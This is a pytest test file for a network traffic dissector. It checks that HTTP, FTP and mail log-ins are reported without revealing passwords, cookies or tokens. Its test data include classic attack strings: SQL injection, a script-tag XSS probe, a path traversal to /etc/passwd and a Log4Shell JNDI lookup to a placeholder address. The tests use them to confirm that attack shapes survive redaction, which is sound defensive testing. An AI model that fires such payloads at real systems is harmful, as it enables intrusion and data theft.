"""Requests, forms and log-ins in clear: what is told, and that no password, cookie or token is."""

from __future__ import annotations

from base64 import b64encode
from random import Random
from urllib.parse import quote, unquote_plus

import pytest

from govsec.dissect.http import REQUEST_BODY_MAX
from govsec.dissect.messages import (
    FtpCommand,
    FtpReply,
    HttpRequest,
    HttpResponse,
    LoginOutcome,
    NtlmMessage,
    ProtocolError,
    TlsClientHello,
    TlsServerHello,
)
from govsec.dissect.withhold import has_secret, without_secrets
from govsec.testing import trafficlogins, trafficsmb, traffictls
from tests.dissect.dissected import dissect, only
from tests.dissect.test_protocols import talk

SECRET = "Tr0ub4dor-9"


def post(body: bytes, kind: str = "application/x-www-form-urlencoded", headers: str = "") -> bytes:
    head = f"POST /login HTTP/1.1\r\nHost: a.example\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n"
    return f"{head}{headers}\r\n".encode() + body


def test_a_request_is_told_with_its_head_and_body() -> None:
    (request,) = only(talk((True, post(b"q=%27+or+1%3D1"))), HttpRequest)

    assert (request.method, request.target, request.host, request.body) == (
        "POST",
        "/login",
        "a.example",
        b"q=%27+or+1%3D1",
    )
    assert ("content-type", "application/x-www-form-urlencoded") in request.headers
    assert request.is_whole and not request.has_credentials


@pytest.mark.parametrize(
    "body",
    [
        f"user=zhang&password={SECRET}&go=1",
        f"user=zhang&new_password_again={SECRET}",
        f"user[password]={SECRET}",
        f'{{"user": "zhang", "passwd" : "{SECRET}"}}',
        f'--x\r\nContent-Disposition: form-data; name="password"\r\n\r\n{SECRET}\r\n--x--',
        f"<login><wsse:Password Type='text'>{SECRET}</wsse:Password></login>",
        f"access_token={SECRET}",
    ],
)
def test_no_form_in_any_notation_gives_a_password_away(body: str) -> None:
    messages = talk((True, post(body.encode())), (False, b"HTTP/1.1 302 Found\r\nContent-Length: 0\r\n\r\n"))

    assert SECRET not in repr(messages) and "Tr0ub" not in repr(messages)
    (request,), (answer,) = only(messages, HttpRequest), only(messages, HttpResponse)
    assert request.has_credentials and answer.had_credentials
    assert (answer.status, answer.method, answer.target) == (302, "POST", "/login")


def test_no_header_and_no_target_gives_a_secret_away() -> None:
    headers = (
        f"Cookie: session={SECRET}; theme=dark\r\nX-Api-Key: {SECRET}\r\nReferer: http://a/?token={SECRET}\r\n"
        f"Authorization: Bearer {SECRET}\r\n"
    )
    head = f"GET /reset?token={SECRET}&x=1 HTTP/1.1\r\nHost: a\r\n{headers}\r\n".encode()
    answer = f"HTTP/1.1 200 OK\r\nSet-Cookie: session={SECRET}\r\nContent-Length: 0\r\n\r\n".encode()

    messages = talk((True, head), (False, answer))

    assert SECRET not in repr(messages) and "Tr0ub" not in repr(messages)
    (request,) = only(messages, HttpRequest)
    assert dict(request.headers)["authorization"] == "Bearer"
    assert request.target.startswith("/reset?token=") and request.target.endswith("&x=1")


@pytest.mark.parametrize(
    "attack",
    [
        "' or 1=1 --",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "${jndi:ldap://192.0.2.6/a}",
        "' UNION SELECT 1,2 --",
    ],
)
@pytest.mark.parametrize("times", [0, 1, 2])
def test_an_attack_in_a_password_keeps_its_shape_however_often_it_is_encoded(attack: str, times: int) -> None:
    sent = attack.replace(" ", "+") if not times else attack
    for _ in range(times):
        sent = quote(sent, safe="")
    (request,) = only(talk((True, post(f"user=x&password={sent}".encode()))), HttpRequest)

    shown = unquote_plus(request.body.decode())
    code = {"'", "--", "<script>", "alert(1)", "../../", "${jndi:ldap://", "UNION", "SELECT"}
    assert all(part in shown for part in code if part in attack)


def test_an_expression_in_a_cookie_stays_and_the_cookie_does_not() -> None:
    head = f"GET / HTTP/1.1\r\nCookie: a={SECRET}; b=%24%7Bjndi:ldap://192.0.2.6/x%7D\r\n\r\n".encode()
    (request,) = only(talk((True, head)), HttpRequest)

    assert dict(request.headers)["cookie"] == "${jndi:ldap://192.0.2.6/x}"


def test_what_is_no_secret_is_left_alone() -> None:
    for plain in (b"compass=north&bypass_id=7", b"a=1&b=' or 1=1 --", b'{"user": "zhang"}', b"title=Pass+the+salt"):
        assert without_secrets(plain) == plain or b"bypass" in plain
    assert not has_secret(b"title=password")


@pytest.mark.parametrize(("status", "accepted"), [(401, False), (403, False), (200, True), (302, True)])
def test_basic_authentication_is_a_log_in_with_an_outcome(status: int, accepted: bool) -> None:
    token = b64encode(f"zhang:{SECRET}".encode()).decode()
    head = f"GET /admin HTTP/1.1\r\nAuthorization: Basic {token}\r\n\r\n".encode()

    messages = talk((True, head), (False, f"HTTP/1.1 {status} X\r\nContent-Length: 0\r\n\r\n".encode()))

    (outcome,) = only(messages, LoginOutcome)
    assert (outcome.service, outcome.user, outcome.is_accepted, outcome.is_originator) == (
        "http",
        "zhang",
        accepted,
        True,
    )
    assert SECRET not in repr(messages) and token not in repr(messages)


def test_ntlm_in_http_tells_who_asks() -> None:
    token = b64encode(trafficsmb.ntlm_authenticate(Random(1), "zhang", "OFFICE", "PC5")).decode()
    head = f"GET / HTTP/1.1\r\nAuthorization: NTLM {token}\r\n\r\n".encode()

    (ntlm,) = only(talk((True, head)), NtlmMessage)

    assert (ntlm.kind, ntlm.user, ntlm.domain, ntlm.workstation, ntlm.service) == (
        "authenticate", "zhang", "OFFICE", "PC5", "http",
    )  # fmt: skip


def test_a_large_upload_is_told_once_and_the_next_request_is_found_behind_it() -> None:
    body, following = b"x" * 60_000, b"GET /after HTTP/1.1\r\n\r\n"
    stream = post(body) + following

    messages = talk(*((True, stream[at : at + 1400]) for at in range(0, len(stream), 1400)))

    first, second = only(messages, HttpRequest)
    assert (len(first.body), first.body_size, second.target) == (REQUEST_BODY_MAX, 60_000, "/after")


def test_bodies_that_do_not_exist_are_not_waited_for() -> None:
    asked = b"HEAD /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\nGET /c HTTP/1.1\r\n\r\n"
    answered = (
        b"HTTP/1.1 200 OK\r\nContent-Length: 500\r\n\r\n"
        b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 304 Not Modified\r\nContent-Length: 9\r\n\r\n"
        b"HTTP/1.1 200 OK\r\n\r\nup to the end"
    )

    answers = only(talk((True, asked), (False, answered)), HttpResponse)

    assert [(m.status, m.target) for m in answers] == [(200, "/a"), (100, "/b"), (304, "/b")]


def test_what_follows_an_upgrade_is_not_read() -> None:
    asked = b"GET /chat HTTP/1.1\r\nUpgrade: websocket\r\n\r\n"
    messages = talk(
        (True, asked), (False, b"HTTP/1.1 101 Switching Protocols\r\n\r\n\x81\x05hello"), (True, b"\x81\x85xxxx")
    )

    assert [type(m) for m in messages] == [HttpRequest, HttpResponse]


@pytest.mark.parametrize(
    "bad",
    [
        b"POST / HTTP/1.1\r\nContent-Length: -5\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n\x16\x03\x01 binary\r\n\r\n",
        b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" + b"z" * 400,
    ],
)
def test_what_breaks_the_rules_is_told_and_the_flow_given_up(bad: bytes) -> None:
    messages = talk((True, bad), (True, b"GET /never HTTP/1.1\r\n\r\n"))

    assert [m.parser for m in only(messages, ProtocolError)] == ["http"]
    assert not [m for m in only(messages, HttpRequest) if m.target == "/never"]


def test_ftp_tells_commands_without_passwords_and_how_log_ins_end() -> None:
    messages = dissect(trafficlogins.ftp_guessing(Random(1), connections_count=3))

    assert {m.argument for m in only(messages, FtpCommand) if m.command == "PASS"} == {""}
    assert {(m.code, m.command) for m in only(messages, FtpReply)} >= {(220, ""), (331, "USER"), (530, "PASS")}
    outcomes = only(messages, LoginOutcome)
    assert outcomes and {(m.service, m.is_accepted) for m in outcomes} == {("ftp", False)}
    assert all(m.user for m in outcomes)


PLAIN = b64encode(f"\0zhang\0{SECRET}".encode())


@pytest.mark.parametrize(
    ("service", "said"),
    [
        (
            "smtp",
            [
                (False, b"220 mail ESMTP\r\n"), (True, b"EHLO pc\r\n"), (False, b"250-mail\r\n250 AUTH LOGIN\r\n"),
                (True, b"AUTH LOGIN\r\n"), (False, b"334 VXNlcm5hbWU6\r\n"), (True, b64encode(b"zhang") + b"\r\n"),
                (False, b"334 UGFzc3dvcmQ6\r\n"), (True, b64encode(SECRET.encode()) + b"\r\n"), (False, b"535 no\r\n"),
            ],
        ),
        (
            "smtp",
            [
                (False, b"220 mail\r\n"), (True, b"EHLO pc\r\n"), (False, b"250 AUTH PLAIN\r\n"),
                (True, b"AUTH PLAIN " + PLAIN + b"\r\n"), (False, b"535 no\r\n"),
            ],
        ),
        (
            "pop3",
            [
                (False, b"+OK ready\r\n"), (True, b"USER zhang\r\n"), (False, b"+OK\r\n"),
                (True, f"PASS {SECRET}\r\n".encode()), (False, b"-ERR no\r\n"),
            ],
        ),
        (
            "imap",
            [
                (False, b"* OK ready\r\n"), (True, f'a1 LOGIN "zhang" "{SECRET}"\r\n'.encode()),
                (False, b"* CAPABILITY X\r\na1 NO failed\r\n"),
            ],
        ),
        (
            "imap",
            [
                (False, b"* OK ready\r\n"), (True, b"a1 AUTHENTICATE PLAIN\r\n"), (False, b"+ \r\n"),
                (True, PLAIN + b"\r\n"), (False, b"a1 NO failed\r\n"),
            ],
        ),
    ],
)  # fmt: skip
def test_mail_log_ins_tell_who_and_the_outcome_and_never_the_password(
    service: str, said: list[tuple[bool, bytes]]
) -> None:
    messages = talk(*said)

    (outcome,) = only(messages, LoginOutcome)
    assert (outcome.service, outcome.user, outcome.is_accepted) == (service, "zhang", False)
    accepted = {b"535 no\r\n": b"235 yes\r\n", b"-ERR no\r\n": b"+OK\r\n"}.get(
        said[-1][1], said[-1][1].replace(b"NO", b"OK")
    )
    (outcome,) = only(talk(*said[:-1], (False, accepted)), LoginOutcome)
    assert outcome.is_accepted
    assert SECRET not in repr(messages) and PLAIN.decode() not in repr(messages)


SWITCHES = {
    "smtp": [
        (False, b"220 a\r\n"), (True, b"EHLO a\r\n"), (False, b"250 a\r\n"),
        (True, b"STARTTLS\r\n"), (False, b"220 go\r\n"),
    ],
    "pop3": [(False, b"+OK\r\n"), (True, b"STLS\r\n"), (False, b"+OK go\r\n")],
    "imap": [(False, b"* OK\r\n"), (True, b"a STARTTLS\r\n"), (False, b"a OK go\r\n")],
    "ftp": [(False, b"220 a\r\n"), (True, b"AUTH TLS\r\n"), (False, b"234 go\r\n")],
    "proxy": [(True, b"CONNECT a.example:443 HTTP/1.1\r\n\r\n"), (False, b"HTTP/1.1 200 Established\r\n\r\n")],
    "ldap": [
        (True, b"\x30\x1d\2\1\1\x77\x18\x80\x161.3.6.1.4.1.1466.20037"),
        (False, b"\x30\x0c\2\1\1\x78\7\x0a\1\0\4\0\4\0"),
    ],
}  # fmt: skip


@pytest.mark.parametrize("service", SWITCHES)
def test_what_follows_a_switch_to_tls_is_read_as_tls(service: str) -> None:
    hello = traffictls.client_hello(Random(1), "inner.example")

    messages = talk(*SWITCHES[service], (True, hello), (False, traffictls.server_flight(Random(2))))

    assert [m.server_name for m in only(messages, TlsClientHello)] == ["inner.example"]
    assert len(only(messages, TlsServerHello)) == 1
    assert not only(messages, ProtocolError)


def test_a_switch_that_was_refused_is_none() -> None:
    messages = talk(
        (True, b"CONNECT a.example:443 HTTP/1.1\r\n\r\n"), (False, b"HTTP/1.1 407 No\r\nContent-Length: 2\r\n\r\nno"),
        (True, b"GET http://a.example/ HTTP/1.1\r\n\r\n"),
    )  # fmt: skip

    assert [m.target for m in only(messages, HttpRequest)] == ["a.example:443", "http://a.example/"]
